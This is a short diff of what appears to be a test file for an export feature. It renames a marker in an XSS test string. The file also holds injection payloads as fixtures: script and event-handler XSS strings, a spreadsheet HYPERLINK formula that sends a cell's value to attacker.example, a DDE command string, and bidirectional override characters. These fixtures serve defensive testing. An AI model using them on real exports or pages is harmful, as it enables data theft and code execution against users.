@@ -4,7 +4,7 @@ from __future__ import annotations
 
 from support.small_company import Exports, exports
 
-SCRIPT = "<script>window.broken = 1</script><img src=x onerror='window.broken = 1'>\"><svg onload=window.broken=1>"
+SCRIPT = "<script>window.ran = 1</script><img src=x onerror='window.ran = 1'>\"><svg onload=window.ran=1>"
 FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"see")'
 COMMAND = "+cmd|' /C calc'!A0"
 RIGHT_TO_LEFT = "\u202eשלום\u202c مرحبا \u2066x\u2069"
